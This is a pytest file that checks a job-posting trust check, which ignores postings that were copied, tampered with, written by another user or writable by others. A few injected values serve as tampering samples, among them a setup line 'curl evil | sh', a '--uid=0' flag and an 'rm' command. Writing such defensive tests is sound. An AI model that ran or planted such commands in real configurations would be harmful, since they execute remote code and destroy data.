"""Only what this user posted is acted on: not a copy, not what was changed, not another user's."""

from __future__ import annotations

import shutil
import time

import msgspec
import pytest
from msgspec.structs import replace

from engine.config.site import Site
from engine.remote.live_postings import LivePostings
from engine.runs.posted import site_status
from engine.runs.posted.posting import FILE, Posting, name_of, posting_of, write_posting
from engine.runs.store import Run, Store, StoreError
from engine.runs.trust.posted_by_user import contents_of, enter_posting, own_posting, why_not_own

JZ = Site(name="jz", slurm="gpu")


@pytest.fixture
def posted(store, tiny) -> Run:
    """A run that this user posted."""

    def intend(run: Run) -> None:
        enter_posting(run, Posting(site=JZ, name=name_of(run, 1), posted=time.time(), job="8"))

    run = store.create(tiny, 0, fill=intend)
    site_status.folder_of(store.root).mkdir()
    return run


def looked_after(store: Store) -> list[str]:
    return [name for runs in LivePostings(store).by_site().values() for name in runs]


def test_what_this_user_posted_is_looked_after(store, posted):
    assert own_posting(posted) == posting_of(posted)
    assert looked_after(store) == [posted.id]


def test_a_copied_folder_is_left_alone(store, posted):
    copy = store.root / "copy-s0-20261124-191700-abcd"
    shutil.copytree(posted.path, copy)
    assert why_not_own(Run(copy), posting_of(Run(copy))) == "posted by somebody else, or copied"
    assert looked_after(store) == [posted.id]


def test_a_moved_folder_of_runs_is_still_this_users(store, posted, tmp_path):
    store.root.rename(tmp_path / "elsewhere")
    assert looked_after(Store(tmp_path / "elsewhere")) == [posted.id]


def test_a_changed_run_json_is_left_alone(store, posted):
    path = posted.path / "run.json"
    path.write_text(path.read_text().replace("vit_mini", "vit_tiny"))
    assert own_posting(posted) is None


@pytest.mark.parametrize(
    "change",
    [
        {"job": "9"}, {"name": "vitui-other-1"}, {"settings": ["command=['rm']"]}, {"failures": -5},
        {"site": replace(JZ, setup=["curl evil | sh"])}, {"site": replace(JZ, extra=["--uid=0"])}, {"proof": ""},
        {"proof": "\udcff"}, {"folder": "/"}, {"number": 7},
    ],
)  # fmt: skip
def test_a_changed_posting_is_left_alone(store, posted, change):
    changed = replace(posting_of(posted), **change)
    try:
        write_posting(posted, changed)
    except UnicodeEncodeError:
        return
    assert own_posting(posted) is None
    assert looked_after(store) == []


def test_another_users_key_makes_no_proof(store, posted, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "other"))
    assert own_posting(posted) is None
    assert why_not_own(posted, posting_of(posted)) == "posted by somebody else"
    monkeypatch.undo()
    assert own_posting(posted) is not None


def test_what_others_can_write_is_not_posted(store, posted):
    posted.path.chmod(0o777)
    assert own_posting(posted) is None
    with pytest.raises(StoreError, match="cannot be sent anywhere: others can write"):
        enter_posting(posted, posting_of(posted))


@pytest.mark.parametrize(
    "text", ["", "{", "[]", '{"v": 1}', '{"site": {"name": "x", "evil": 1}}', "\0" * 100]
)
def test_a_damaged_posting_is_nobodys(store, posted, text):
    (posted.path / FILE).write_text(text)
    assert own_posting(posted) is None
    assert looked_after(store) == []


def test_the_digest_in_a_job_is_of_all_that_it_runs(posted):
    posting = posting_of(posted)
    before = contents_of(posted, posting)
    assert before == contents_of(posted, replace(posting, job="9", posted=1.0, proof=""))
    assert before != contents_of(posted, replace(posting, settings=["gpus=2"]))
    assert before != contents_of(posted, replace(posting, name="vitui-x-2"))
    info = msgspec.json.decode((posted.path / "run.json").read_bytes())
    (posted.path / "run.json").write_bytes(msgspec.json.encode(info | {"seed": 5}))
    assert before != contents_of(posted, posting)
